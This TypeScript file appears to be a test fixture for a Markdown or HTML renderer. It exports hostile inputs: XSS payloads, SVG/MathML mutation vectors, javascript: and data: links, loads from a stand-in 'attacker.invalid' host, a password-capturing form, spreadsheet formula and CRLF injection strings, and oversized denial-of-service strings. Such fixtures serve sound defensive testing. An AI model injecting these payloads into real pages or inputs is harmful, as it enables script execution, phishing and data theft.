/** What a script of an attacker would do first; `window.__xss` tells that one ran. */
const run = 'window.__xss=1';
const spy = 'https://attacker.invalid';

/** Scripts, handlers and elements that run or load something by themselves. */
const elements: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${spy}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `';${run}//";${run}//--></SCRIPT>">'><SCRIPT>${run}</SCRIPT>`,
  `</textarea></title></style></noscript></template><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="x"onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x\nonerror\n=\n${run}>`,
  `<img alt=">" src=x onerror=${run}>`,
  `<img x" y=">" src=x onerror=${run} z="">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src=x:x onerror&#61;${run}>`,
  `<img src="${spy}/spy.png">`,
  `<img srcset="${spy}/spy.png 1x" src="${spy}/spy.gif">`,
  `<picture><source srcset="${spy}/a.png"><img src=x></picture>`,
  `![spy](${spy}/spy.png)`,
  `![spy](javascript:${run})`,
  `<body onload=${run}>`,
  `<body background="${spy}/b.png">`,
  `<p onclick=${run} onmouseover=${run} style="position:fixed;inset:0;background:url(${spy}/p)">over all</p>`,
  `<div style="background-image:url(javascript:${run});width:expression(${run})">x</div>`,
  `<style>*{display:none}@import '${spy}/x.css';</style>`,
  `<link rel=stylesheet href="${spy}/x.css"><link rel=prefetch href="${spy}/y">`,
  `<base href="${spy}/">`,
  `<meta http-equiv=refresh content="0;url=${spy}">`,
  `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="data:text/html,<script>${run}</script>">`,
  `<video src=x onerror=${run} autoplay poster="${spy}/v.png"><source onerror=${run}></video>`,
  `<audio src="${spy}/a.mp3" onloadstart=${run} autoplay>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<marquee onstart=${run} loop=1>x</marquee>`,
  `<select autofocus onfocus=${run}><input autofocus onfocus=${run}>`,
  `<form action="${spy}"><input name=password><button formaction="javascript:${run}">Sign in again</button></form>`,
  `<isindex action="javascript:${run}" type=submit>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<input type=image src=x onerror=${run}>`,
  `<x onfocusin=${run} tabindex=1 id=x autofocus>`,
  `<custom-element onanimationend=${run} style="animation:x"></custom-element>`,
];

/** SVG, MathML, and mixtures that change their meaning when they are parsed again. */
const mutations: readonly string[] = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}" /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=0 y=20>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}" /><a id=a><text>x</text></a></svg>`,
  `<svg><set attributeName=onload to=${run} /><image href="${spy}/i.svg" onerror=${run} /></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x" /></svg>`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<math href="javascript:${run}"><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>"></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<a id=attributes><a id=attributes name=x>x</a></a><form id=x><input name=attributes></form>`,
  `<img name=body><img name=getElementById><a id=location href="${spy}">x</a>`,
  `<![CDATA[<img src=x onerror=${run}>]]><?xml-stylesheet href="javascript:${run}"?>`,
  `<!--><img src=x onerror=${run}>-->`,
];

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `vbscript:msgbox(1)`,
  `blob:${spy}/1`,
  `file:///etc/passwd`,
  `intent://x#Intent;end`,
  `javascript://example.com/%0a${run}`,
];

const links: readonly string[] = [
  ...schemes.map((address) => `<a href="${address}">open</a>`),
  ...schemes.map((address) => `[open](${address})`),
  `<javascript:${run}>`,
  `[x]: javascript:${run}\n\n[x]`,
  `[a](https://example.com "onmouseover=${run}")`,
  `[a](https://example.com"onmouseover="${run})`,
  `<a href=https://example.com target=_top ping="${spy}" download>x</a>`,
];

/** Text that leads the eye or the layout astray. */
const odd: readonly string[] = [
  '\u202Egnp.eciovni\u202C \u2066\u202Eevil\u2069',
  '\u202E\u202Enever closed',
  'zero\u200Bwidth\uFEFF\u00AD joiner\u200D',
  `Z\u0351\u036B\u0343\u036A${'\u0300'.repeat(500)}algo`,
  '{{constructor.constructor("window.__xss=1")()}} ${window.__xss=1} <%= 1 %> #{1}',
  '\u0007\u001B[31mred\u001B[0m \uD83D\uDC69\u200D\uD83D\uDCBB \uFFFD \uFFFF',
  `=cmd|' /C calc'!A0 @SUM(1) ../../etc/passwd%00 %0d%0aSet-Cookie:x=1`,
  '__proto__ constructor hasOwnProperty toString',
  `${'W'.repeat(1_500)}`,
  `| a | b |\n| - | - |\n| ${'wide'.repeat(300)} | <b>x</b> |`,
  `\`\`\`\n${'code '.repeat(400)}\n<script>${run}</script>\n\`\`\``,
  `# ${'Heading'.repeat(100)}`,
  '['.repeat(1_500),
];

/** Attacks by what runs in a browser, written for this product; each one is a text by itself. */
export const hostileTexts: readonly string[] = [...elements, ...mutations, ...links, ...odd];

/** One of them in a form that fits into a line: names, tags, roles. */
export const hostileLine = (index: number): string =>
  (hostileTexts[index % hostileTexts.length] ?? '').replaceAll(/\s+/gu, ' ').slice(0, 200);

/** Text of a megabyte without a space. */
export const megabyte = 'M'.repeat(1_000_000);

/** Quotations in quotations, more than the reader of Markdown can follow. */
export const deep = '>'.repeat(5_000);
